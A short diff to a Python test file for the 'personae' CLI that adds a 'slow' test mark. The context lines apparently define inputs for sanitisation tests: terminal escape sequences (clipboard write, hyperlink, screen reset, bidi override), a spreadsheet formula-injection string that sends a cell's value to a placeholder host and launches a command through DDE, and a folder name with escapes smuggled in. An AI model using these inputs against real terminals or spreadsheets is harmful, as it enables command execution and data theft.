@@ -21,6 +21,8 @@ from typer.testing import CliRunner
 from personae.cli import app
 from personae.cli.terminal import styled
 
+pytestmark = pytest.mark.slow
+
 HOSTILE = "\x1b]52;c;aGk=\x07\x1b]8;;http://a.b\x1b\\x\x1b]0;title\x07\x1bc\x9b2J\x85\u202eevil\u2066\u2028\x7f"
 FORMULA = "=HYPERLINK(\"http://a.b/?\"&A1);=cmd|' /C calc'!A0\n@SUM(1)"
 FOLDER = b"run\x1b]0;t\x07\xc2\x9b2J\xe2\x80\xae\nx"
